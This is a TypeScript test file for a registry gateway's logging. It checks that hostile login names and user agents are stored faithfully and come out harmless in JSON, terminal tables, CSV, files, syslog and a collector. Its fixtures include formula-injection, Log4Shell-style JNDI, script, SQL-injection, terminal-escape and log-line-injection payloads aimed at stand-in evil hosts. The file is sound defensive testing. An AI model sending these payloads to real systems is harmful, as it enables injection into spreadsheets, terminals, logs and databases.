import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { before, after, describe, test } from 'node:test';
import { run } from '../../src/cli/program.ts';
import { startDockgate, type TestDockgate } from '../harness/harness.ts';
import { recordingTerminal } from '../program/recording-terminal.ts';

// What strangers send is kept as it came, and harms nobody who reads it: not on a terminal, not in a spreadsheet, not in another
// log. Everything here goes in through HTTP and comes out of each way to read the log.

/** What a header may hold; a name in Basic may hold anything but a colon. */
const AGENT = `=HYPERLINK("http://evil.example","x")|cmd'/c calc'!A1\t<script>alert(1)</script> \${jndi:ldap://evil} %n%s \u00ff`;
const NAMES = [
  '\u001b[2J\u001b]8;;//evil.example\u0007click\u001b]8;;\u0007',
  'a\r\n<14>1 2031-01-01 host dockgate 1 event - {}',
  '"]}\n{"}\n99 <14>1',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  'right\u202eto left\u2066 \u200b\u2028\u2029\ufeff',
  'a","b\'; DROP TABLE event;--',
  'u\u0308\u{1f433}\u0085\u009b31m\u007f',
  'nul\0inside',
] as const;
/** What of it the log keeps: no database stores a NUL. */
const kept = NAMES.map((name) => name.replaceAll('\0', '\ufffd'));

/** Controls, what turns the direction of text, and what looks like nothing. */
const HARMFUL = /[^\P{C}\n\r]|[\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u;

describe('what strangers sent', () => {
  const folder = mkdtempSync(join(tmpdir(), 'dockgate-hostile-'));
  const file = join(folder, 'log.jsonl');
  let dockgate: TestDockgate;
  let syslog: Server;
  let collector: ReturnType<typeof createHttpServer>;
  let syslogText = '';
  const records: { attributes: { key: string; value: { stringValue?: string } }[] }[] = [];

  before(async () => {
    syslog = createServer((socket: Socket) => socket.setEncoding('utf8').on('data', (text: string) => (syslogText += text))).listen(0, '127.0.0.1');
    collector = createHttpServer((request, response) => {
      let text = '';
      request.setEncoding('utf8').on('data', (more: string) => (text += more)).on('end', () => {
        const { resourceLogs } = JSON.parse(text) as { resourceLogs: { scopeLogs: { logRecords: typeof records }[] }[] };
        records.push(...resourceLogs.flatMap(({ scopeLogs }) => scopeLogs.flatMap(({ logRecords }) => logRecords)));
        response.end('{}');
      });
    }).listen(0, '127.0.0.1');
    await Promise.all([once(syslog, 'listening'), once(collector, 'listening')]);
    const portOf = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
    dockgate = await startDockgate({ logFile: file, logSyslog: `tcp://127.0.0.1:${portOf(syslog)}`, logOtlp: `http://127.0.0.1:${portOf(collector)}/v1/logs` });
    for (const name of NAMES) assert.equal((await dockgate.fetch('/v2/', { as: [name, 'wrong'], headers: { 'user-agent': AGENT } })).status, 401);
  });
  after(() => {
    syslog.close();
    collector.close();
    rmSync(folder, { recursive: true });
  });

  const type = async (...words: string[]) => {
    const terminal = recordingTerminal({ isTTY: true, columns: 400, env: { NO_COLOR: '1' } });
    assert.equal(await run([...words, '--data', dockgate.data], terminal), 0);
    return terminal.take().out;
  };
  const query = 'ContainerRegistryLoginEvents | sort by CorrelationId asc | project Identity, UserAgent';

  test('is data in JSON', async () => {
    const rows = JSON.parse(await type('logs', 'query', query, '--json')) as { Identity: string; UserAgent: string }[];
    assert.deepEqual(rows.map(({ Identity }) => Identity), kept);
    assert.deepEqual(new Set(rows.map(({ UserAgent }) => UserAgent)), new Set([AGENT]));
    const found = JSON.parse(await type('logs', 'query', `ContainerRegistryLoginEvents | where Identity == '${kept[5]!.replaceAll("'", "\\'")}' | count`, '--json')) as object[];
    assert.deepEqual(found, [{ Count: 1 }]);
  });

  test('moves nothing in a table, nor in what commands tell', async () => {
    for (const words of [['logs', 'query', query], ['logs', 'failures'], ['why', '--last']]) {
      const out = await type(...words);
      assert.doesNotMatch(out, HARMFUL, words.join(' '));
      if (words[1] === 'query') assert.equal(out.split('\n').length, 1 + NAMES.length);
    }
  });

  test('computes nothing in a spreadsheet', async () => {
    const cells = [...(await type('logs', 'query', query, '--csv')).matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
    assert.deepEqual(cells.slice(0, 2), ['Identity', 'UserAgent']);
    assert.equal(cells.length, 2 + 2 * NAMES.length);
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    for (const cell of cells) assert.doesNotMatch(cell, HARMFUL);
  });

  test('is one entry each, as it came, in a file, in syslog and at a collector', async () => {
    await dockgate.stop();
    const namesOf = (entries: readonly Record<string, unknown>[]) => entries.filter((entry) => entry['type'] === 'event').map((entry) => [entry['identity'], entry['userAgent']]);
    const expected = kept.map((name) => [name, AGENT]);
    const text = readFileSync(file, 'utf8');
    assert.match(text, /^[\x20-\x7e\n]+$/);
    assert.deepEqual(namesOf(text.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>)), expected);

    assert.match(syslogText, /^[\x20-\x7e]+$/);
    const messages: string[] = [];
    for (let rest = syslogText; rest !== ''; ) {
      const length = parseInt(rest, 10);
      const begin = String(length).length + 1;
      messages.push(rest.slice(begin, begin + length));
      rest = rest.slice(begin + length);
    }
    for (const message of messages) assert.match(message, /^<\d+>1 \S+ \S+ dockgate \d+ (event|checkpoint) - \{/);
    assert.deepEqual(namesOf(messages.map((message) => JSON.parse(message.slice(message.indexOf('{'))) as Record<string, unknown>)), expected);

    const attributes = records.map((record) => Object.fromEntries(record.attributes.map(({ key, value }) => [key, value.stringValue])));
    assert.deepEqual(attributes.flatMap((one) => (one['dockgate.identity'] === undefined ? [] : [[one['dockgate.identity'], one['dockgate.userAgent']]])), expected);
  });
});
